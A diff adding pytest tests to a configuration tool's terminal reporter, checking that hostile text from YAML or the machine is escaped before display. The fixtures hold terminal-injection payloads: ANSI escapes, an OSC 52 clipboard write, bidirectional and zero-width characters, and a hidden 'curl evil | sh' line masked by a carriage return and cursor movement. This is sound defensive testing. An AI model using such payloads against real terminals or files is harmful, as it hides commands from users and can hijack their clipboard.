@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import os
 import re
 from dataclasses import replace
@@ -344,3 +345,58 @@ def test_a_reader_who_has_seen_enough_is_pythons_own_error() -> None:
     os.close(reading)
     with open(writing, "w", encoding="utf-8") as pipe, pytest.raises(BrokenPipeError):  # noqa: PTH123 - a descriptor
         Report(pipe, io.StringIO()).line("text")
+
+
+HOSTILE = "\x1b[2K\x1b]52;c;eA==\x07\u202e\u200b"
+SHOWN = r"\x1b[2K\x1b]52;c;eA==\x07\u202e\u200b"
+
+
+def hostile_plan() -> Plan:
+    motd = File(path=f"/etc/{HOSTILE}")
+    before = {**FILE, "owner": HOSTILE, "content": f"old {HOSTILE}\ncurl evil | sh\r\x1b[1A\n"}
+    edited = change(motd, before, {**FILE, "content": "new\n"}, "owner", "content")
+    machine = replace(WSL, distro=HOSTILE, release="1\n  + package:git")
+    return replace(plan_of(edited), host=f"@ssh/{HOSTILE}", machine=machine)
+
+
+@pytest.mark.parametrize("terminal", [False, True])
+def test_nothing_from_yaml_or_the_machine_reaches_the_terminal_as_a_command(
+    *, terminal: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    out = Terminal() if terminal else io.StringIO()
+
+    def tell(report: Report) -> None:
+        report.plan(hostile_plan())
+        report.begin(Step((change(File(path=f"/{HOSTILE}\n"), None, {}),)))
+        report.end(Step((change(File(path=f"/{HOSTILE}\n"), None, {}),)))
+        report.result(Result(f"id {HOSTILE}\n", "failed", f"said {HOSTILE}\rx", 0.1))
+        report.host("ok", "same", HOSTILE)
+        report.region([f"box  {HOSTILE}\n"])
+        report.line(HOSTILE)
+
+    said = written(tell, out)
+    ours = re.compile(r"\x1b\[(?:[0-9]+m|K|J|1F)|\r(?=\x1b\[K)")
+    left = ours.sub("", said) if terminal else said
+    assert set("\x1b\x07\r\u202e\u200b") & set(left) == set()
+    assert left.count(SHOWN) == (12 if terminal else 10)
+
+
+def test_a_hidden_line_of_a_diff_is_shown() -> None:
+    assert written(lambda report: report.plan(hostile_plan())) == (
+        f"box on @ssh/{SHOWN} ({SHOWN} 1\\n  + package:git, 3 resources)\n"
+        "\n"
+        f"  ~ file:/etc/{SHOWN}  files (box.yaml:3)\n"
+        f"      owner: {SHOWN} -> root\n"
+        "      @@ -1,2 +1 @@\n"
+        f"      -old {SHOWN}\n"
+        "      -curl evil | sh\\x0d\\x1b[1A\n"
+        "      +new\n"
+        "\n"
+        "Plan: 0 to create, 1 to change, 0 to remove, 2 as they should be.\n"
+    )
+
+
+def test_json_stays_json_whatever_it_holds() -> None:
+    value = {"a": HOSTILE + "\x7f\udcff"}
+    assert json.loads(written(lambda report: report.json(value))) == value
